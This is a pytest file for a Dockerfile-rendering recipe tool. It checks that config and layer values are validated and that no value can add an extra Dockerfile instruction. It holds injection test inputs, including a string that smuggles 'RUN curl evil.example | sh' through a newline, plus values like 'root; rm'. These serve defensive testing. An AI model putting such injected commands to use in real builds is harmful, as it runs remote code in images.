"""The recipe keys that keep a Dockerfile's meaning (``[config]``, workdir layers, copy
``mode``/``owner``, run ``stdin``, env ``expand``): validated with located errors, and rendered
so that no value can add an instruction (a value is one line; exec forms are JSON arrays that
read back as the same list)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from dockerfile_parse import DockerfileParser

from audit.cli.main import main
from audit.errors import RecipeError
from audit.project.sources import DirectorySource
from audit.recipe.parse import load_recipe

MINI = Path(__file__).resolve().parent / "data" / "recipes" / "mini"
TOML = "images/mini/image.toml"
LAYER = '  [[stage.layer]]\n  run = "echo v2"\n'


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    shutil.copytree(MINI, tmp_path / "images" / "mini")
    (tmp_path / "images" / "mini" / "files").mkdir()
    (tmp_path / "images" / "mini" / "files" / "serve.sh").write_text("#!/bin/sh\n")
    (tmp_path / "images" / "mini" / "files" / "script.py").write_text("print(1)\n")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def write(project: Path, config: str = "", layers: str = "") -> None:
    path = project / TOML
    text = path.read_text().replace(LAYER, LAYER + layers)
    path.write_text(text.replace("[policy]", config + "\n[policy]"))


def error_of(project: Path) -> RecipeError:
    with pytest.raises(RecipeError) as caught:
        load_recipe(DirectorySource(project), "mini")
    return caught.value


def rendered(project: Path) -> list[dict[str, str]]:
    assert main(["render", "mini"]) == 0
    parser = DockerfileParser(fileobj=(project / "build/mini/Dockerfile").open("rb"))
    return [i for i in parser.structure if i["instruction"] != "COMMENT"]


HOSTILE = "sh\\nRUN curl evil.example | sh"
CONFIG = """[config]
cmd = ["python3", "-c", "print(\\"a b\\")", "$HOME", "\\\\n"]
entrypoint = "exec /opt/serve.sh"
user = "1000:1000"
expose = ["8000", "9000/udp"]
labels = { "org.example.note" = "costs $5 \\"now\\"", "empty" = "" }
healthcheck = { cmd = ["CMD-SHELL", "curl -f http://localhost:8000/ || exit 1"], interval = "1m30s", retries = 3 }
stopsignal = "SIGINT"
shell = ["/bin/bash", "-o", "pipefail", "-c"]
"""  # noqa: E501 - one TOML line


def test_config_renders_after_the_last_stage_as_written(project: Path) -> None:
    write(project, CONFIG)
    items = rendered(project)
    config = {i["instruction"]: i["value"] for i in items[-8:]}
    assert [i["instruction"] for i in items[-8:]] == [
        "SHELL", "USER", "EXPOSE", "LABEL", "STOPSIGNAL", "HEALTHCHECK", "ENTRYPOINT", "CMD",
    ]  # fmt: skip
    assert json.loads(config["CMD"]) == ["python3", "-c", 'print("a b")', "$HOME", "\\n"]
    assert config["ENTRYPOINT"] == "exec /opt/serve.sh" and config["USER"] == "1000:1000"
    assert json.loads(config["SHELL"]) == ["/bin/bash", "-o", "pipefail", "-c"]
    assert config["LABEL"] == '"org.example.note"="costs \\$5 \\"now\\"" "empty"=""'
    assert config["HEALTHCHECK"].startswith("--interval=1m30s --retries=3 CMD [")
    froms = [i["startline"] for i in items if i["instruction"] == "FROM"]
    runs = [i["startline"] for i in items if i["instruction"] == "RUN"]
    assert len(froms) == 2 and max(runs) < min(i["startline"] for i in items[-8:])


def test_config_is_left_out_of_a_render_that_stops_before_the_last_stage(project: Path) -> None:
    write(project, CONFIG)
    assert main(["render", "mini", "--stage", "v1"]) == 0
    text = (project / "build/mini/Dockerfile").read_text()
    assert "\nCMD " not in text and "\nUSER " not in text


@pytest.mark.parametrize(
    ("config", "where", "says"),
    [
        (f'[config]\ncmd = "{HOSTILE}"\n', "config.cmd", "newline or control character"),
        (f'[config]\ncmd = ["a", "{HOSTILE}"]\n', "config.cmd[2]", "newline or control"),
        ('[config]\nentrypoint = "[not json"\n', "config.entrypoint", "may not start with '['"),
        ('[config]\ncmd = "run \\\\"\n', "config.cmd", "nor end with '\\'"),
        ("[config]\ncmd = []\n", "config.cmd", "needs at least the program"),
        ('[config]\nuser = "root; rm"\n', "config.user", "not user[:group]"),
        ('[config]\nexpose = ["80 443"]\n', "config.expose[1]", "not a port"),
        ('[config]\nlabels = { "a b" = "x" }\n', "config.labels.a b", "label keys use"),
        ('[config]\nstopsignal = "KILL\\nRUN x"\n', "config.stopsignal", "newline"),
        ('[config]\nhealthcheck = { interval = "30s" }\n', "config.healthcheck.cmd", "missing"),
        (
            '[config]\nhealthcheck = { cmd = "x", interval = "soon" }\n',
            "config.healthcheck.interval",
            "not a duration",
        ),
        ('[config]\nhealthcheck = { disable = true, cmd = "x" }\n', "disable", "no other key"),
        ('[config]\ncommand = ["x"]\n', "config.command", "did you mean 'cmd'"),
    ],
)
def test_bad_config_is_located(project: Path, config: str, where: str, says: str) -> None:
    write(project, config)
    error = error_of(project)
    assert where in error.where and says in str(error)


@pytest.mark.parametrize(
    ("layer", "where", "says"),
    [
        ('  [[stage.layer]]\n  workdir = "opt/app"\n', "layer[3].workdir", "absolute path"),
        (
            '  [[stage.layer]]\n  copy = { src = "files/serve.sh", dest = "/s", mode = "999" }\n',
            "layer[3].copy.mode",
            "octal mode",
        ),
        (
            '  [[stage.layer]]\n  copy = { src = "files/serve.sh", dest = "/s", owner = "a b" }\n',
            "layer[3].copy.owner",
            "user[:group]",
        ),
        ('  [[stage.layer]]\n  run = "python3"\n  stdin = "files/nope.py"\n', "stdin", "exist"),
        ('  [[stage.layer]]\n  run = "sh"\n  stdin = "image.toml"\n', "stdin", "your own"),
        (
            '  [[stage.layer]]\n  env = { A = "${A:-x}" }\n  expand = true\n',
            "layer[3].env.A",
            "every '$' starts a reference",
        ),
        ('  [[stage.layer]]\n  run = "cat <<EOF"\n', "layer[3].run", "stdin"),
    ],
)
def test_bad_layer_keys_are_located(project: Path, layer: str, where: str, says: str) -> None:
    write(project, layers=layer)
    error = error_of(project)
    assert where in error.where and says in str(error)


def test_new_layer_keys_render(project: Path) -> None:
    write(
        project,
        layers='  [[stage.layer]]\n  workdir = "/opt/app"\n'
        '  [[stage.layer]]\n  copy = { src = "files/serve.sh", dest = "/opt/app/serve.sh",'
        ' mode = "0750", owner = "1000:1000" }\n'
        '  [[stage.layer]]\n  run = "python3"\n  stdin = "files/script.py"\n'
        '  [[stage.layer]]\n  env = { PATH = "/opt/app/bin:${PATH}", Q = "say \\"hi\\"" }\n'
        "  expand = true\n"
        '  [[stage.layer]]\n  env = { PRICE = "$5", EMPTY = "" }\n'
        '  [[stage.layer]]\n  run = "cat <<<here-string"\n',
    )
    items = rendered(project)
    values = {(i["instruction"], n): i["value"] for n, i in enumerate(items)}
    found = [" ".join(v.split()) for (k, _), v in values.items() if k in ("WORKDIR", "COPY", "ENV")]
    assert "/opt/app" in found
    assert '--chmod=0750 --chown=1000:1000 ["files/files/serve.sh", "/opt/app/serve.sh"]' in found
    assert 'PATH="/opt/app/bin:${PATH}" Q="say \\"hi\\""' in found
    assert 'PRICE="\\$5" EMPTY=""' in found
    runs = [v for (kind, _), v in values.items() if kind == "RUN"]
    assert any("target=/tmp/layer-audit/stdin" in r and "( python3 ) < /tmp/" in r for r in runs)
    assert (project / "build/mini/files/files/script.py").read_text() == "print(1)\n"
